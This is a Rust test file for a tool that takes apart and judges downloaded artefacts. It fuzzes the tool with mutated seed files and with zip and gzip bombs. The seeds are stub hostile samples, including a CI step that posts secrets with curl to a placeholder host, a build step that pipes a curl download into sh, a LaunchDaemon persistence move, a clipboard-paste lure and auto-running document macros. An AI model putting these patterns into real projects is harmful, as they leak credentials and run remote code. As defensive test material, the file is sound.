//! Bytes that want to do harm to the reader: mutations and bombs.

use madang_artefact::{
    facts::Reason,
    judge,
    limits::{Limit, Limits},
    report::Verdict,
    take_apart,
};

use crate::{
    facts,
    make::{
        asar, cpio, deb, dmg, gzip, gzip_best, iso, macho, noise, npm, pe, pkg, plist, tar, tgz, xar, zip,
    },
};

/// One of each format.
fn seeds() -> Vec<Vec<u8>> {
    let files = [
        ("a.sh", b"#!/bin/sh\nexit 0\nmv /a/.b /Library/LaunchDaemons/b\n".to_vec()),
        ("b.plist", plist("x", "/x")),
    ];
    vec![
        zip(&files),
        tar(&files),
        tgz(&files),
        cpio(&files),
        xar(&files),
        asar(&files),
        iso(&files),
        dmg(&iso(&files)),
        deb(&[("./postinst", files[0].1.clone())], &files),
        pkg("launchctl load x", &files),
        macho(&["https://a.invalid"], &["_system"]),
        pe(&["x"], "KERNEL32.dll", &["ExitProcess"], Some(&noise(5000, 7))),
        npm("node s.js", &[("s.js", "eval(['a','b'].join('')+'\\x41')")]),
        b"%PDF-1.7\n1 0 obj<</S/Launch/F(a)>>stream\nx\nendstream\n".to_vec(),
        b"{\\rtf1{\\object\\objdata 0105000002000000}}".to_vec(),
        plist("x", "/x"),
        "<!doctype html><html><p>Win + R, 粘贴</p><button data-k='eA==' onclick=\"a('>')\">x</button><script>const t=rd(e.dataset.k);navigator.clipboard.writeText(t)</script></html>".into(),
        b"%PDF-1.7\n1 0 obj<</AA<</C<</S/JavaScript/JS(event.value = this.getField\\('a'\\).value)>>>>>>endobj\n".to_vec(),
        "<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><ooo:libraries><script:module script:name='A' script:language='StarBasic'>Shell(\"a\")</script:module></ooo:libraries><script:event-listener script:event-name='dom:load' xlink:href='vnd.sun.star.script:A.A'/></office:document>".into(),
        b"%PDF-1.7\n1 0 obj<</FT/Tx/T(a)/TU<FEFF007300650065006400200070>>>endobj 2 0 obj<</S/#53ubmitForm/F(https://a.invalid)>>endobj\n".to_vec(),
        zip(&[
            (".github/workflows/a.yml", b"jobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.A }} https://a.invalid\n".to_vec()),
            ("a.csproj", b"<Project><Exec Command=\"curl https://a.invalid | sh\"/></Project>".to_vec()),
            ("README.md", "x\u{e0101}\u{e0102}".repeat(20).into_bytes()),
        ]),
    ]
}

/// Mutations of each run; ten runs with seeds of their own make ten thousand.
const MUTATIONS: usize = 1000;

/// The mutations are cheap ones: what matters is that none of them gets out as a panic.
fn mutate(seed: u64) {
    let seeds = seeds();
    let mut chance = noise(4 * MUTATIONS * 8, seed).into_iter();
    let mut next = || u32::from_le_bytes(std::array::from_fn(|_| chance.next().unwrap_or(1))) as usize;
    let limits = Limits {
        total_bytes_max: 64 << 20,
        object_bytes_max: 16 << 20,
        held_bytes_max: 64 << 20,
        ..Limits::default()
    };
    for round in 0..MUTATIONS {
        let mut bytes = seeds[round % seeds.len()].clone();
        for _ in 0..1 + round % 3 {
            let at = next() % bytes.len();
            match next() % 4 {
                0 => bytes[at] = next() as u8,
                1 => bytes[at] ^= 1 << (next() % 8),
                2 => bytes.truncate(at.max(1)),
                _ => bytes[at] = 0xff,
            }
        }
        let facts = take_apart(&bytes, &limits, "mutation");
        let failed: Vec<_> =
            facts.unopened.iter().filter(|unopened| unopened.reason == Reason::ReaderFailed).collect();
        let report = judge(&facts, None, None);
        assert!(failed.is_empty() || report.verdict >= Verdict::NotVettable, "{failed:?}");
    }
}

macro_rules! ten_thousand_mutations {
    ($($name:ident $seed:literal;)*) => {$(
        #[test]
        fn $name() {
            mutate($seed);
        }
    )*};
}
ten_thousand_mutations! {
    mutations_never_get_out_1 3; mutations_never_get_out_2 5; mutations_never_get_out_3 7; mutations_never_get_out_4 9;
    mutations_never_get_out_5 11; mutations_never_get_out_6 13; mutations_never_get_out_7 15; mutations_never_get_out_8 17;
    mutations_never_get_out_9 19; mutations_never_get_out_10 21;
}

#[test]
fn bombs_stop_at_their_limit_and_are_not_vettable() {
    let nested = (0..30).fold(b"x".to_vec(), |inner, _| gzip(&inner));
    let zeros = gzip(&gzip_best(&vec![0; 64 << 20]));
    let mut wide = b"x".to_vec();
    for _ in 0..3 {
        let names: Vec<String> = (0..24).map(|number| number.to_string()).collect();
        let files: Vec<(&str, Vec<u8>)> = names.iter().map(|name| (name.as_str(), wide.clone())).collect();
        wide = tgz(&files);
    }
    let cases = [(nested, Limit::Depth), (zeros, Limit::Ratio), (wide, Limit::Objects)];
    for (bytes, limit) in cases {
        let facts = take_apart(&bytes, &Limits { objects_max: 10_000, ..Limits::default() }, "bomb");
        assert!(
            facts.unopened.iter().any(|unopened| unopened.reason == Reason::Limit(limit)),
            "{limit:?}: {:?}",
            facts.unopened.first()
        );
        assert!(judge(&facts, None, None).verdict >= Verdict::NotVettable);
        assert!(facts.spent.held_bytes_peak < 1 << 30);
    }
}

#[test]
fn taking_apart_is_the_same_every_time() {
    for bytes in seeds() {
        assert_eq!(facts(&bytes), facts(&bytes));
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]

    /// Whatever the bytes: every object but the first has a parent before it, and nothing is bigger than the limits.
    #[test]
    fn objects_form_a_tree_within_the_budget(noise in proptest::collection::vec(proptest::num::u8::ANY, 0..2000), head in 0_usize..16) {
        let mut bytes = seeds()[head].clone();
        let keep = bytes.len().min(noise.len());
        bytes.truncate(bytes.len() - keep / 4);
        bytes.extend(noise);
        let facts = facts(&bytes);
        for (number, object) in facts.objects.iter().enumerate() {
            proptest::prop_assert_eq!(object.id.0 as usize, number);
            proptest::prop_assert_eq!(object.parent.is_none(), number == 0);
            proptest::prop_assert!(object.parent.is_none_or(|parent| parent < object.id));
            proptest::prop_assert!(object.depth <= facts.limits.depth_max);
        }
    }
}
